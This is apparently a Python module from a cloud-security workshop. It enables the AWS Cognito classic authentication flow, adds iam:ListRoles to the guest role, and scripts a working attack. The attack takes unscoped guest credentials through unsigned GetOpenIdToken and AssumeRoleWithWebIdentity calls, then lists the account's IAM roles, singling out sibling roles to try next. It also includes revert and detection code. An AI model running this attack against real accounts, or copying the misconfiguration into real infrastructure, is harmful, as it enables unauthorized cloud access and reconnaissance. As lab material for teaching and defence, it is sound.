"""Lab 6: the classic (basic) flow left on.

With `AllowClassicFlow: true`, anyone holding an identity ID asks
`GetOpenIdToken` for a token and takes it to STS `AssumeRoleWithWebIdentity`
themselves. Cognito then never sees the request for credentials, so the
enhanced flow's guest scope-down (an inline session policy that leaves IAM
and STS out) is never applied: the guest gets the role's policies whole. The
lab's guest role also allows `iam:ListRoles`, a permission that the scope-down
makes harmless in the enhanced flow and that the classic flow makes real.
https://docs.aws.amazon.com/cognito/latest/developerguide/authentication-flow.html
"""

from __future__ import annotations

import json
from typing import Any

import jwt
from botocore.exceptions import ClientError

from core.deployment import Deployment
from infra import aws
from infra.provision import deployment_names, identity_pool_config
from workshop.base import AttackResult, Lab, Report
from workshop.outsider import Outsider, refused

LIST_ROLES_POLICY = "lab06-list-roles"  # the guest role's extra inline policy, named so revert finds it
LIST_ROLES = {
    "Version": "2012-10-17",
    "Statement": [{"Sid": "Lab06GuestsListRoles", "Effect": "Allow", "Action": "iam:ListRoles", "Resource": "*"}],
}
SESSION_NAME = "lab06-guest"
MAX_SHOWN = 12  # role names printed
MAX_ROLES = 1000  # role names read, at most (ListRoles pages of 100)


def _pool_config(*, deployment: Deployment, classic: bool) -> dict[str, Any]:
    """What provisioning sets, with the classic flow on or (as provisioned) off."""
    config = identity_pool_config(
        name=deployment_names().identity_pool, provider=deployment.provider, client_id=deployment.app_client_id
    )
    return {**config, "AllowClassicFlow": classic}


def _guest_role(deployment: Deployment) -> str:
    return deployment.unauthenticated_role_arn.rsplit("/", 1)[-1]


def apply(*, deployment: Deployment, report: Report) -> None:
    aws.identity_pool_update(identity_pool_id=deployment.identity_pool_id, config=_pool_config(deployment=deployment, classic=True))
    report(f"Turned the classic flow on for identity pool {deployment.identity_pool_id} (AllowClassicFlow: true)")
    aws.role_policy_put(role=_guest_role(deployment), name=LIST_ROLES_POLICY, document=json.dumps(LIST_ROLES))
    report(f"Added inline policy {LIST_ROLES_POLICY} (iam:ListRoles) to the guest role {_guest_role(deployment)}")


def revert(*, deployment: Deployment, report: Report) -> None:
    aws.identity_pool_update(identity_pool_id=deployment.identity_pool_id, config=_pool_config(deployment=deployment, classic=False))
    report(f"Turned the classic flow off again for identity pool {deployment.identity_pool_id}, as provisioning sets it")
    if LIST_ROLES_POLICY in aws.role_policy_names(role=_guest_role(deployment)):
        aws.role_policy_delete(role=_guest_role(deployment), name=LIST_ROLES_POLICY)
        report(f"Removed inline policy {LIST_ROLES_POLICY} from the guest role {_guest_role(deployment)}")


def applied(*, deployment: Deployment) -> bool:
    """Either change is live: the flow on, or the guest role's extra policy."""
    pool = aws.identity_pool_describe(identity_pool_id=deployment.identity_pool_id)
    return pool.get("AllowClassicFlow") is True or LIST_ROLES_POLICY in aws.role_policy_names(role=_guest_role(deployment))


def _role_arn_of_session(arn: str) -> str:
    """arn:aws:iam::<account>:role/<name> of arn:aws:sts::<account>:assumed-role/<name>/<session>."""
    account = arn.split(":")[4]
    return f"arn:aws:iam::{account}:role/{arn.split(':', 5)[5].split('/')[1]}"


def attack(*, outsider: Outsider) -> AttackResult:
    outsider.step("A guest opens the app, whose browser code asks POST /api/credentials (the enhanced flow, run by Django)")
    enhanced = outsider.guest_credentials()
    outsider.got(f"guest identity {enhanced['identityId']} and enhanced-flow credentials {enhanced['accessKeyId']}")

    outsider.step("STS GetCallerIdentity with them: which role is this?")
    role_arn = _role_arn_of_session(outsider.client("sts", enhanced).get_caller_identity()["Arn"])
    outsider.got(f"the guest role {role_arn}")

    # Not the attack: the contrast that shows what the classic flow skips.
    outsider.step("IAM ListRoles with these enhanced-flow credentials")
    try:
        outsider.client("iam", enhanced).list_roles(MaxItems=1)
        outsider.report("   allowed: this guest session reaches IAM even through the enhanced flow")
    except ClientError as exc:
        outsider.report(
            f"   refused: {exc.response['Error'].get('Code')}. In the enhanced flow Cognito scopes every guest session "
            "down to a list of services that leaves IAM out, whatever the role allows"
        )

    identity = outsider.client("cognito-identity")
    outsider.step("GetOpenIdToken for that identity, unsigned: the classic flow's first step")
    try:
        token = identity.get_open_id_token(IdentityId=enhanced["identityId"])["Token"]
    except ClientError as exc:
        return refused(exc)
    pool_id = jwt.decode(token, options={"verify_signature": False})["aud"]
    outsider.got(f"an OpenID token whose aud names the identity pool: {pool_id}")

    outsider.step("GetId on that pool, unsigned: a fresh guest identity of our own, without the app or its guest limit")
    own_id = identity.get_id(IdentityPoolId=pool_id)["IdentityId"]
    token = identity.get_open_id_token(IdentityId=own_id)["Token"]
    outsider.got(f"identity {own_id} and its OpenID token")

    outsider.step(f"STS AssumeRoleWithWebIdentity into {role_arn}, unsigned: the caller, not Cognito, asks for the session")
    try:
        answer = outsider.client("sts").assume_role_with_web_identity(
            RoleArn=role_arn, RoleSessionName=SESSION_NAME, WebIdentityToken=token
        )
    except ClientError as exc:
        return refused(exc)
    c = answer["Credentials"]
    classic = {"accessKeyId": c["AccessKeyId"], "secretAccessKey": c["SecretAccessKey"], "sessionToken": c["SessionToken"]}
    session_arn = answer["AssumedRoleUser"]["Arn"]
    outsider.got(f"a session with no scope-down: {session_arn}")

    outsider.step("IAM ListRoles with the classic-flow session")
    pages = outsider.client("iam", classic).get_paginator("list_roles").paginate(PaginationConfig={"MaxItems": MAX_ROLES})
    try:
        roles = [role["RoleName"] for page in pages for role in page["Roles"]]
    except ClientError as exc:
        return refused(exc)
    shown = ", ".join(roles[:MAX_SHOWN]) + (f" and {len(roles) - MAX_SHOWN} more" if len(roles) > MAX_SHOWN else "")
    outsider.got(f"the names of {len(roles)} roles in the account: {shown}")
    guest_role = role_arn.rsplit("/", 1)[-1]
    family = guest_role.rsplit("-", 1)[0] + "-"
    siblings = [r for r in roles if r.startswith(family) and r != guest_role]
    outsider.got(f"the guest role's siblings, named alike, the next roles to try: {', '.join(siblings) or 'none'}")
    return AttackResult(succeeded=True, obtained=(session_arn, *roles))


LAB = Lab(
    number=6,
    slug="06-classic-flow",
    title="The classic flow left on",
    rule="classic-flow",
    apply=apply,
    revert=revert,
    applied=applied,
    attack=attack,
    culprit=(
        'Identity pool: "AllowClassicFlow": true, so a guest takes GetOpenIdToken\'s token to STS itself and skips the '
        f"enhanced flow's scope-down; the guest role's inline policy {LIST_ROLES_POLICY} allows iam:ListRoles."
    ),
)
